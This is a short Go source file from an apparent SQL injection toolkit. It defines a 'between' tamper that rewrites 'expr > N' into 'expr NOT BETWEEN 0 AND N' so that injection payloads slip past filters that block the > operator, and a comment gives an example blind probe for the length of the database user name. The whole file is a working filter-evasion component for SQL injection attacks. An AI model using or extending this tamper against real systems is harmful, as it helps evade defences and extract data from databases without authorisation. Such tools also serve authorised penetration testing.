package tamper

import "regexp"

// greaterThanPattern matches "> N" where N is an integer literal.
var greaterThanPattern = regexp.MustCompile(`\s*>\s*(\d+)`)

// betweenTamper replaces "expr > N" with "expr NOT BETWEEN 0 AND N" to get
// past filters blocking the > operator. Both read the same for the
// non-negative lengths and character codes blind checks compare.
//
// Example:
//
//	"length((select user())) > 12" → "length((select user())) NOT BETWEEN 0 AND 12"
type betweenTamper struct{}

func (t *betweenTamper) Name() string { return "between" }

func (t *betweenTamper) Apply(s string) string {
	return outsideQuotes(s, func(part string) string {
		return greaterThanPattern.ReplaceAllString(part, " NOT BETWEEN 0 AND $1")
	})
}
